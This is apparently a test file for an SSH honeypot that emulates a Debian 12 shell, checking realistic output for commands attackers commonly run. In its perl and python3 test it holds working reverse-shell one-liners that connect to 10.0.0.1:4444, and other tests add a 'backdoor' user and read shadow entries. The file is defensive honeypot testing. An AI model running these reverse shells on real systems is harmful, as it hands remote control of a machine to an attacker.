// More commands attackers run on a fresh login (expr, getent, ulimit, ip, last, ps -o, cksum, du,
// virtualisation probes, interpreters, dd, wget -V, more/less), answered as Debian 12 answers them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { attackerShell, testShell } from '../../helpers/shell.js';

const shell = (seed = 'cmds2', o: { username?: string } = {}): ReturnType<typeof attackerShell> => attackerShell(seed, o);

test('expr computes, compares and matches as GNU expr does, with its exit statuses and messages', async () => {
  const s = await shell();
  const cases: [string, string, number][] = [
    ['expr 1 + 2', '3\n', 0],
    ['expr 5 - 7', '-2\n', 0],
    ['expr 3 \\* 4', '12\n', 0],
    ['expr -5 / 2', '-2\n', 0],
    ['expr -5 % 3', '-2\n', 0],
    ['expr 1 + 2 \\* 3', '7\n', 0],
    ['expr \\( 1 + 2 \\) \\* 3', '9\n', 0],
    ['expr 99999999999999999999 + 1', '100000000000000000000\n', 0],
    ['expr 2 - 2', '0\n', 1],
    ['expr 000', '000\n', 1],
    ['expr 2 \\< 10', '1\n', 0],
    ['expr 3 \\< 10a', '0\n', 1],
    ['expr a != b', '1\n', 0],
    ['expr 5 = 05', '1\n', 0],
    ['expr 0 \\| 5', '5\n', 0],
    ['expr "" \\| 0', '0\n', 1],
    ['expr 5 \\& 0', '0\n', 1],
    ['expr 1 \\| 1 / 0', '1\n', 0],
    ['expr length hello', '5\n', 0],
    ['expr substr hello 2 3', 'ell\n', 0],
    ['expr substr hello 0 2', '\n', 1],
    ['expr index hello l', '3\n', 0],
    ['expr match hello h.l', '3\n', 0],
    ["expr hello : '\\(h.\\)'", 'he\n', 0],
    ["expr hello : 'x\\(h.\\)'", '\n', 1],
    ['expr abc : x', '0\n', 1],
    ["expr ab : 'a\\+b'", '2\n', 0],
    ['expr + length', 'length\n', 0],
    ['expr', "expr: missing operand\nTry 'expr --help' for more information.\n", 2],
    ['expr 1 / 0', 'expr: division by zero\n', 2],
    ['expr a + 1', 'expr: non-integer argument\n', 2],
    ['expr 1 +', 'expr: syntax error: missing argument after ‘+’\n', 2],
    ['expr 1 2', 'expr: syntax error: unexpected argument ‘2’\n', 2],
    ['expr \\( 1', "expr: syntax error: expecting ')' after ‘1’\n", 2],
    ['expr \\( 1 2', "expr: syntax error: expecting ')' instead of ‘2’\n", 2],
    ['expr \\)', "expr: syntax error: unexpected ')'\n", 2],
    ["expr abc : '\\('", 'expr: Unmatched ( or \\(\n', 2],
  ];
  for (const [cmd, out, code] of cases) assert.deepEqual(await s.run(cmd), { out, code }, cmd);
  assert.deepEqual(await s.run('i=1; i=`expr $i + 1`; echo $i'), { out: '2\n', code: 0 });
  await s.end();
});

test('getent reads the session\'s passwd, group, shadow and hosts files, exit 2 for a missing key', async () => {
  const s = await shell();
  assert.deepEqual(await s.run('getent passwd root'), { out: 'root:x:0:0:root:/root:/bin/bash\n', code: 0 });
  assert.deepEqual(await s.run('getent passwd 0 nosuch'), { out: 'root:x:0:0:root:/root:/bin/bash\n', code: 2 });
  assert.deepEqual(await s.run('getent group sudo | cut -d: -f1,3'), { out: 'sudo:27\n', code: 0 });
  assert.equal((await s.run('getent passwd | wc -l')).out, (await s.run('wc -l < /etc/passwd')).out);
  // A user the attacker adds is found at once.
  await s.run('useradd -m -s /bin/bash backdoor');
  assert.match((await s.run('getent passwd backdoor')).out, /^backdoor:x:\d+:\d+::\/home\/backdoor:\/bin\/bash\n$/);
  assert.match((await s.run('getent shadow root')).out, /^root:[^:]*:\d+:0:99999:7:::\n$/);
  assert.deepEqual(await s.run('getent hosts localhost'), { out: '::1             localhost ip6-localhost ip6-loopback\n', code: 0 });
  assert.deepEqual(await s.run('getent hosts 127.0.0.1'), { out: '127.0.0.1       localhost\n', code: 0 });
  const host = (await s.run('hostname')).out.trim();
  assert.match((await s.run(`getent hosts ${host}`)).out, new RegExp(`^127\\.0\\.1\\.1 +\\S+ ${host}\\n$`));
  assert.deepEqual(await s.run('getent hosts no-such-host.invalid'), { out: '', code: 2 });
  assert.deepEqual(await s.run('getent services'), { out: '', code: 0 });
  assert.deepEqual(await s.run('getent foo'), { out: "Unknown database: foo\nTry `getent --help' or `getent --usage' for more information.\n", code: 1 });
  assert.deepEqual(await s.run('getent'), { out: "getent: wrong number of arguments\nTry `getent --help' or `getent --usage' for more information.\n", code: 1 });
  // A user who cannot read /etc/shadow gets what Debian 12's nss-systemd makes up for root.
  assert.deepEqual(await s.run("su backdoor -c 'getent shadow root; getent shadow backdoor; echo $?'"), { out: 'root:!*:::::::\n2\n', code: 0 });
  await s.end();
});

test('ulimit -a prints bash 5.2\'s 17 limits; one flag prints one value; limits can be lowered', async () => {
  const s = await shell();
  const all = (await s.run('ulimit -a')).out.split('\n').filter(Boolean);
  assert.equal(all.length, 17);
  assert.equal(all[0], 'real-time non-blocking time  (microseconds, -R) unlimited');
  assert.equal(all[1], 'core file size              (blocks, -c) 0');
  assert.equal(all[8], 'open files                          (-n) 1024');
  assert.equal(all[9], 'pipe size                (512 bytes, -p) 8');
  assert.equal(all[12], 'stack size                  (kbytes, -s) 8192');
  const pending = /^pending signals +\(-i\) (\d+)$/.exec(all[5]!)?.[1];
  assert.ok(pending && Number(pending) > 1000, all[5]);
  assert.equal(all[14], `max user processes                  (-u) ${pending}`);
  assert.deepEqual(await s.run('ulimit -u'), { out: `${pending}\n`, code: 0 });
  assert.deepEqual(await s.run('ulimit -n; ulimit -Hn; ulimit -s; ulimit -c; ulimit'), { out: '1024\n524288\n8192\n0\nunlimited\n', code: 0 });
  assert.deepEqual(await s.run('ulimit -n -s'), { out: 'open files                          (-n) 1024\nstack size                  (kbytes, -s) 8192\n', code: 0 });
  assert.deepEqual(await s.run('ulimit -n 65535; ulimit -n'), { out: '65535\n', code: 0 });
  assert.deepEqual(await s.run('ulimit -n unlimited'), { out: 'bash: line 1: ulimit: open files: cannot modify limit: Operation not permitted\n', code: 1 });
  assert.deepEqual(await s.run('ulimit -n abc'), { out: 'bash: line 1: ulimit: abc: invalid number\n', code: 1 });
  assert.deepEqual(await s.run('ulimit -z'), { out: 'bash: line 1: ulimit: -z: invalid option\nulimit: usage: ulimit [-SHabcdefiklmnpqrstuvxPRT] [limit]\n', code: 2 });
  await s.end();
  const u = await shell('cmds2', { username: 'admin' });
  assert.deepEqual(await u.run('ulimit -n 100; ulimit -n 200'), { out: 'bash: line 1: ulimit: open files: cannot modify limit: Operation not permitted\n', code: 1 });
  await u.end();
});

test('ip -4/-6 filter the addresses; -o prints one line per address and -br the brief table', async () => {
  const s = await shell();
  const n = s.t.env.profile.net;
  const v4 = (await s.run('ip -4 addr show')).out;
  assert.ok(!v4.includes('inet6') && !v4.includes('link/ether') && v4.includes(`inet ${n.ipv4}/`), v4);
  assert.equal(v4.split('\n')[0], '1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000');
  const v6 = (await s.run('ip -6 a')).out;
  assert.ok(!/ inet /.test(v6) && v6.includes(`inet6 ${n.ipv6LinkLocal}/64 scope link`), v6);
  assert.equal(v6.split('\n')[0], '1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 state UNKNOWN qlen 1000');
  assert.deepEqual((await s.run('ip -o -4 a')).out.split('\n')[0], '1: lo    inet 127.0.0.1/8 scope host lo\\       valid_lft forever preferred_lft forever');
  assert.equal((await s.run('ip -o a | wc -l')).out, '4\n');
  assert.equal((await s.run('ip -br a')).out, `lo               UNKNOWN        127.0.0.1/8 ::1/128 \n${n.iface.padEnd(16)} UP             ${n.ipv4}/${n.prefix} ${n.ipv6LinkLocal}/64 \n`);
  assert.equal((await s.run('ip -br -4 a')).out.split('\n')[1], `${n.iface.padEnd(16)} UP             ${n.ipv4}/${n.prefix} `);
  assert.equal((await s.run('ip -br link')).out.split('\n')[1], `${n.iface.padEnd(16)} UP             ${n.mac} <BROADCAST,MULTICAST,UP,LOWER_UP> `);
  assert.equal((await s.run('ip a show lo | wc -l')).out, '6\n');
  assert.deepEqual(await s.run('ip a show dev nosuch0'), { out: 'Device "nosuch0" does not exist.\n', code: 1 });
  assert.match((await s.run('ip route')).out, new RegExp(`^default via ${n.gateway.replace(/\./g, '\\.')} dev ${n.iface} onlink`));
  await s.end();
});

test('last honours -n N, -N and user names', async () => {
  const s = await shell();
  const entries = (r: { out: string }): string[] => r.out.slice(0, r.out.lastIndexOf('wtmp begins')).split('\n').filter(Boolean);
  const all = entries(await s.run('last'));
  assert.ok(all.length > 3, String(all.length));
  assert.deepEqual(entries(await s.run('last -n 3')), all.slice(0, 3));
  assert.deepEqual(entries(await s.run('last -2')), all.slice(0, 2));
  assert.deepEqual(entries(await s.run('last --limit=1')), all.slice(0, 1));
  assert.match((await s.run('last -n 3')).out, /\n\nwtmp begins /);
  assert.deepEqual(entries(await s.run('last reboot')), all.filter((l) => l.startsWith('reboot ')));
  const user = all.find((l) => !l.startsWith('reboot '))!.split(' ')[0]!;
  const mine = entries(await s.run(`last ${user}`));
  assert.ok(mine.length > 0 && mine.every((l) => l.startsWith(`${user} `)), mine.join('\n'));
  assert.deepEqual(entries(await s.run('last nosuchuser')), []);
  assert.deepEqual(await s.run('last -n x'), { out: "last: failed to parse number: 'x'\n", code: 1 });
  assert.deepEqual(await s.run('last -z'), { out: "last: invalid option -- 'z'\nTry 'last --help' for more information.\n", code: 1 });
  await s.end();
});

test('ps -o/-eo/o prints the columns asked for with procps headers, and --sort orders them', async () => {
  const s = await shell();
  const r = await s.run('ps -eo pid,comm --sort=-%cpu');
  const lines = r.out.trimEnd().split('\n');
  assert.equal(lines[0], '    PID COMMAND');
  assert.ok(lines.slice(1).every((l) => /^ *\d+ \S/.test(l)), r.out);
  const cpu = (await s.run('ps -eo pcpu= --sort=-pcpu')).out.trim().split('\n').map(Number);
  assert.deepEqual(cpu, [...cpu].sort((a, b) => b - a));
  const rss = (await s.run('ps -e -o rss= --sort=-rss')).out.trim().split('\n').map(Number);
  assert.ok(rss.length > 10 && rss[0]! > rss.at(-1)!, String(rss));
  assert.deepEqual(rss, [...rss].sort((a, b) => b - a));
  const pids = (await s.run('ps -e -o pid= --sort=-pid')).out.trim().split('\n').map(Number);
  assert.deepEqual(pids, [...pids].sort((a, b) => b - a));
  assert.equal((await s.run('ps -eo pid,user,uid,%cpu,%mem,rss,vsz,stat,tty,time,etime,comm | head -1')).out, '    PID USER       UID %CPU %MEM   RSS    VSZ STAT TT           TIME     ELAPSED COMMAND\n');
  assert.match((await s.run('ps -p 1 -o pid,ppid,user,comm,args')).out, /^    PID    PPID USER     COMMAND         COMMAND\n      1       0 root     systemd         \/sbin\/init\n$/);
  assert.deepEqual(await s.run('ps -p 1 -o comm='), { out: 'systemd\n', code: 0 });
  assert.deepEqual(await s.run('ps -p 1 -o comm=,pid=X'), { out: `${' '.repeat(22)}X\nsystemd               1\n`, code: 0 });
  assert.match((await s.run('ps -p 1 -o lstart=')).out, /^\w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d \d{4}\n$/);
  assert.match((await s.run('ps -p 1 -o etime=')).out, /^ *\d+-\d\d:\d\d:\d\d\n$/);
  assert.match((await s.run('ps axo pid,comm | head -2')).out, /^    PID COMMAND\n +1 systemd\n$/);
  assert.match((await s.run('ps -o pid,user:12,cmd -p 1')).out, /^    PID USER         CMD\n +1 root         \/sbin\/init\n$/);
  const mem = (await s.run("ps aux --sort=-%mem | awk 'NR>1 {print $4}'")).out.trim().split('\n').map(Number);
  assert.deepEqual(mem, [...mem].sort((a, b) => b - a));
  assert.match((await s.run('ps ax | head -2')).out, /^    PID TTY      STAT   TIME COMMAND\n +1 \? +Ss +\d+:\d\d \/sbin\/init/);
  assert.deepEqual(await s.run('ps -p 999999 -o pid'), { out: '    PID\n', code: 1 });
  assert.match((await s.run('ps -eo pid,foo')).out, /^error: unknown user-defined format specifier "foo"\n/);
  assert.equal((await s.run('ps -eo pid,foo')).code, 1);
  await s.end();
});

test('cksum prints the POSIX CRC as coreutils does (and -a bsd, sysv, digests); du counts 1K blocks of the tree', async () => {
  const s = await shell();
  // The figures the real cksum 9.1 prints for the same input.
  assert.deepEqual(await s.run('cksum', 'hello\n'), { out: '3015617425 6\n', code: 0 });
  assert.deepEqual(await s.run('printf "" | cksum'), { out: '4294967295 0\n', code: 0 });
  assert.deepEqual(await s.run('seq 1 2000 > /tmp/s; cksum /tmp/s'), { out: '852505425 8893 /tmp/s\n', code: 0 });
  assert.deepEqual(await s.run('cksum -a sysv /tmp/s; cksum -a bsd', 'hello\n'), { out: '51191 18 /tmp/s\n36979     1\n', code: 0 });
  assert.deepEqual(await s.run('cksum -a sha1 < /tmp/s'), { out: 'SHA1 (-) = 763ceab1c1f9165c45031c86313c16f2cbb0ad0c\n', code: 0 });
  assert.deepEqual(await s.run('cksum /nonexist'), { out: 'cksum: /nonexist: No such file or directory\n', code: 1 });
  assert.match((await s.run('cksum -a foo /tmp/s')).out, /^cksum: invalid argument ‘foo’ for ‘--algorithm’\nValid arguments are:\n  - ‘bsd’\n/);

  await s.run('mkdir -p /tmp/dut/a/b; printf x > /tmp/dut/f1; seq 1 1000 > /tmp/dut/a/f2; seq 1 2000 > /tmp/dut/a/b/f3; ln -s f1 /tmp/dut/l; cd /tmp');
  assert.deepEqual(await s.run('du dut'), { out: '16\tdut/a/b\n24\tdut/a\n32\tdut\n', code: 0 });
  assert.deepEqual(await s.run('du -a dut'), { out: '12\tdut/a/b/f3\n16\tdut/a/b\n4\tdut/a/f2\n24\tdut/a\n4\tdut/f1\n0\tdut/l\n32\tdut\n', code: 0 });
  assert.deepEqual(await s.run('du -s dut; du -sh dut'), { out: '32\tdut\n32K\tdut\n', code: 0 });
  assert.deepEqual(await s.run('du -ch dut/a dut/f1'), { out: '16K\tdut/a/b\n24K\tdut/a\n4.0K\tdut/f1\n28K\ttotal\n', code: 0 });
  assert.deepEqual(await s.run('du --max-depth=1 dut; du -d 0 dut'), { out: '24\tdut/a\n32\tdut\n32\tdut\n', code: 0 });
  assert.deepEqual(await s.run('du -sb dut'), { out: `${3 * 4096 + 1 + 3893 + 8893 + 2}\tdut\n`, code: 0 });
  assert.deepEqual(await s.run('du nosuch'), { out: "du: cannot access 'nosuch': No such file or directory\n", code: 1 });
  assert.deepEqual(await s.run('du -s /bin'), { out: '0\t/bin\n', code: 0 });
  await s.end();
});

test('the machine is one KVM guest throughout: systemd-detect-virt, /sys/class/dmi/id, dmidecode and dmesg agree', async () => {
  for (const seed of ['cmds2', 'virt-a', 'virt-b', 'virt-c']) {
    const s = await shell(seed);
    const openstack = s.t.env.profile.net.mac.startsWith('fa:16:3e');
    const vendor = openstack ? 'OpenStack Foundation' : 'QEMU';
    const product = openstack ? 'OpenStack Nova' : 'Standard PC (i440FX + PIIX, 1996)';
    assert.deepEqual(await s.run('systemd-detect-virt'), { out: 'kvm\n', code: 0 });
    assert.deepEqual(await s.run('systemd-detect-virt --container'), { out: 'none\n', code: 1 });
    assert.deepEqual(await s.run('systemd-detect-virt -q --vm'), { out: '', code: 0 });
    assert.deepEqual(await s.run('cat /sys/class/dmi/id/sys_vendor /sys/class/dmi/id/product_name /sys/class/dmi/id/bios_vendor'), { out: `${vendor}\n${product}\nSeaBIOS\n`, code: 0 });
    // QEMU makes no baseboard table unless told to.
    assert.equal((await s.run('cat /sys/class/dmi/id/board_vendor')).code, 1);
    assert.deepEqual(await s.run('dmidecode -s system-manufacturer; dmidecode -s system-product-name'), { out: `${vendor}\n${product}\n`, code: 0 });
    const biosVersion = (await s.run('cat /sys/class/dmi/id/bios_version')).out;
    assert.equal((await s.run('dmidecode -s bios-version')).out, biosVersion);
    const sys = (await s.run('dmidecode -t system')).out;
    assert.ok(sys.startsWith('# dmidecode 3.4\nGetting SMBIOS data from sysfs.\nSMBIOS 2.8 present.\n\nHandle 0x0100, DMI type 1, 27 bytes\nSystem Information\n'), sys);
    assert.ok(sys.includes(`\tManufacturer: ${vendor}\n\tProduct Name: ${product}\n`), sys);
    const uuid = (await s.run('cat /sys/class/dmi/id/product_uuid')).out.trim();
    assert.ok(sys.includes(`\tUUID: ${uuid}\n`), sys);
    assert.match((await s.run('dmesg | grep DMI:')).out, new RegExp(`DMI: ${vendor} ${product.replace(/[()+]/g, '\\$&')}, BIOS ${biosVersion.trim()} `));
    await s.end();
  }
  const u = await shell('cmds2', { username: 'admin' });
  assert.deepEqual(await u.run('dmidecode -t system'), { out: '# dmidecode 3.4\n/sys/firmware/dmi/tables/smbios_entry_point: Permission denied\nScanning /dev/mem for entry point.\n/dev/mem: Permission denied\n', code: 1 });
  assert.deepEqual(await u.run('cat /sys/class/dmi/id/product_uuid'), { out: 'cat: /sys/class/dmi/id/product_uuid: Permission denied\n', code: 1 });
  assert.match((await u.run('cat /sys/class/dmi/id/sys_vendor')).out, /^(QEMU|OpenStack Foundation)\n$/);
  await u.end();
});

test('perl -e and python3 -c print literals and simple expressions; what they cannot follow stays quiet; errors as the real ones', async () => {
  const s = await shell();
  assert.deepEqual(await s.run(`perl -e 'print "x\\n"'`), { out: 'x\n', code: 0 });
  assert.deepEqual(await s.run(`perl -e 'print "a" . "b", 1+2, "\\n"; print 10/3, "\\n"; print 2**10, "\\n"; my $x = "hi"; print "$x there\\n"; print "-" x 5, "\\n"'`), { out: 'ab3\n3.33333333333333\n1024\nhi there\n-----\n', code: 0 });
  assert.deepEqual(await s.run(`perl -le 'print 1e21, " ", 0.1+0.2, " ", 7/2'`), { out: '1e+21 0.3 3.5\n', code: 0 });
  assert.deepEqual(await s.run(`perl -E 'say "hi"'`), { out: 'hi\n', code: 0 });
  assert.deepEqual(await s.run(`perl -e 'print "x'`), { out: 'Can\'t find string terminator \'"\' anywhere before EOF at -e line 1.\n', code: 255 });
  assert.match((await s.run(`perl -e 'use LWP::Simple; print "x"'`)).out, /^Can't locate LWP\/Simple\.pm in @INC \(you may need to install the LWP::Simple module\) \(@INC contains: \/etc\/perl .*\) at -e line 1\.\nBEGIN failed--compilation aborted at -e line 1\.\n$/);
  assert.deepEqual(await s.run(`perl -e 'system("echo hi from sh")'`), { out: 'hi from sh\n', code: 0 });
  // A reverse shell: nothing printed, as the real one prints nothing once it connects.
  assert.deepEqual(await s.run(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`), { out: '', code: 0 });

  assert.deepEqual(await s.run(`python3 -c 'print(1)'`), { out: '1\n', code: 0 });
  assert.deepEqual(await s.run(`python3 -c 'print(1+1)'`), { out: '2\n', code: 0 });
  assert.deepEqual(await s.run(`python3 -c 'print(1, "a", 2.5, 7/2, 4/2, 2**100, True, None, -3//2, "ab"*3, 1e20, 1e16, 0.1+0.2)'`), { out: '1 a 2.5 3.5 2.0 1267650600228229401496703205376 True None -2 ababab 1e+20 1e+16 0.30000000000000004\n', code: 0 });
  assert.deepEqual(await s.run(`python3 -c 'print(1,2,sep="-",end="!\\n")'; python3 -c 'x=5; print(x*2, "v" + str(x))'`), { out: '1-2!\n10 v5\n', code: 0 });
  assert.deepEqual(await s.run(`echo 'print(42)' | python3`), { out: '42\n', code: 0 });
  assert.deepEqual(await s.run(`python3 -c 'print "x"'`), { out: `  File "<string>", line 1\n    print "x"\n    ^^^^^^^^^\nSyntaxError: Missing parentheses in call to 'print'. Did you mean print(...)?\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'print(foo)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nNameError: name 'foo' is not defined\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c "print('x)"`), { out: `  File "<string>", line 1\n    print('x)\n          ^\nSyntaxError: unterminated string literal (detected at line 1)\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'print(1'`), { out: `  File "<string>", line 1\n    print(1\n         ^\nSyntaxError: '(' was never closed\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'print(1/0)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nZeroDivisionError: division by zero\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'print("a"+1)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nTypeError: can only concatenate str (not "int") to str\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'import requests'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nModuleNotFoundError: No module named 'requests'\n`, code: 1 });
  assert.deepEqual(await s.run(`python3 -c 'import os; os.system("echo hi")'`), { out: 'hi\n', code: 0 });
  assert.deepEqual(await s.run(`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);import pty; pty.spawn("/bin/bash")'`), { out: '', code: 0 });
  assert.deepEqual(await s.run(`printf 'print("from file")\\n' > /tmp/x.py; python3 /tmp/x.py`), { out: 'from file\n', code: 0 });
  // The commands are still recorded as they were typed.
  assert.ok(s.t.events.some((e) => e.type === 'command.input' && (e.payload as { input: string }).input.includes('pty.spawn')));
  await s.end();
});

test('dd reads whole blocks from /dev/zero and /dev/urandom, and a file past the quota fails as a full disk', async () => {
  const t = testShell({ shell: { seed: 'dd', quota_bytes: 3 << 20 } });
  const s = { t, ...t.open('203.0.113.9') };
  const r = await s.run('dd if=/dev/zero of=/tmp/z bs=1M count=1; wc -c < /tmp/z; od -An -tx1 -N4 /tmp/z');
  assert.match(r.out, /^1\+0 records in\n1\+0 records out\n1048576 bytes \(1\.0 MB, 1\.0 MiB\) copied, [\d.]+ s, [\d.]+ [GMk]B\/s\n1048576\n 00 00 00 00\n$/);
  assert.match((await s.run('dd if=/dev/urandom of=/tmp/r bs=1k count=3 2>&1 | head -3; wc -c < /tmp/r')).out, /^3\+0 records in\n3\+0 records out\n3072 bytes \(3\.1 kB, 3\.0 KiB\) copied, .*\n3072\n$/);
  assert.deepEqual(await s.run('dd if=/dev/zero bs=100 count=2 status=none | wc -c'), { out: '200\n', code: 0 });
  assert.deepEqual(await s.run("printf 'abcde' | dd of=/tmp/z2 bs=1M count=1 2>&1 | head -2"), { out: '0+1 records in\n0+1 records out\n', code: 0 });
  assert.match((await s.run('dd if=/dev/zero of=/dev/null bs=1M count=100 2>&1')).out, /^100\+0 records in\n100\+0 records out\n104857600 bytes \(105 MB, 100 MiB\) copied/);
  // The quota is 3 MiB: the fourth MiB does not fit.
  await s.run('rm -f /tmp/z /tmp/r /tmp/z2');
  const full = await s.run('dd if=/dev/zero of=/tmp/big bs=1M count=4');
  assert.equal(full.code, 1);
  assert.match(full.out, /^dd: error writing '\/tmp\/big': No space left on device\n4\+0 records in\n3\+[01] records out\n\d+ bytes \(3\.\d MB, 3\.\d MiB\) copied/);
  assert.ok(Number((await s.run('wc -c < /tmp/big')).out) > 3_000_000);
  await s.end();
});

test('wget -V prints GNU Wget 1.21.3; more and less show files as cat does when not paging', async () => {
  const s = await shell();
  const v = await s.run('wget --version');
  assert.equal(v.code, 0);
  assert.ok(v.out.startsWith('GNU Wget 1.21.3 built on linux-gnu.\n\n-cares +digest -gpgme +https +ipv6 +iri +large-file -metalink +nls \n'), v.out);
  assert.ok(v.out.endsWith('Originally written by Hrvoje Niksic <hniksic@xemacs.org>.\nPlease send bug reports and questions to <bug-wget@gnu.org>.\n'));
  assert.equal((await s.run('wget -V | head -1')).out, 'GNU Wget 1.21.3 built on linux-gnu.\n');
  const host = (await s.run('cat /etc/hostname')).out;
  assert.deepEqual(await s.run('more /etc/hostname'), { out: host, code: 0 });
  assert.deepEqual(await s.run('less /etc/hostname | cat'), { out: host, code: 0 });
  assert.deepEqual(await s.run('more /etc/hostname /etc/hostname'), { out: `::::::::::::::\n/etc/hostname\n::::::::::::::\n${host}`.repeat(2), code: 0 });
  assert.deepEqual(await s.run('echo hi | more; echo hi | less'), { out: 'hi\nhi\n', code: 0 });
  assert.deepEqual(await s.run('more /nonexist'), { out: 'more: cannot open /nonexist: No such file or directory\n', code: 0 });
  assert.deepEqual(await s.run('less /nonexist'), { out: '/nonexist: No such file or directory\n', code: 0 });
  assert.deepEqual(await s.run('more /etc'), { out: '\n*** /etc: directory ***\n\n', code: 0 });
  await s.end();
  // At a terminal a file that fits is shown whole and the prompt comes back.
  const t = testShell({ shell: { seed: 'cmds2' } });
  const pty = t.open('203.0.113.9', { pty: true });
  assert.match((await pty.run('less /etc/hostname')).out.replace(/\r/g, ''), new RegExp(`^${host}`));
  await pty.end();
});
